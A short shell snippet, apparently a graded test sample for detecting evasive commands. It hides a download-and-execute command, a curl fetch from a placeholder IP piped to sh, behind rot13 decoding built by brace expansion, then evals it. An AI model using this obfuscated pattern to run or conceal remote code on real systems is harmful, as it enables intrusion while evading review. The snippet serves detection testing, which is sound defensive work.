# evasion: rot13 through tr, but both sets are sliced from an alphabet made by brace expansion, and the result is eval'd
# grade: hard; does: download-exec
printf -v abc '%s' {a..z}
rot=${abc:13}${abc:0:13}
step='phey -sfSL uggc://203.0.113.61/f.fu | fu'
decode() { tr "$abc" "$rot" <<<"$1"; }
eval "$(decode "$step")"
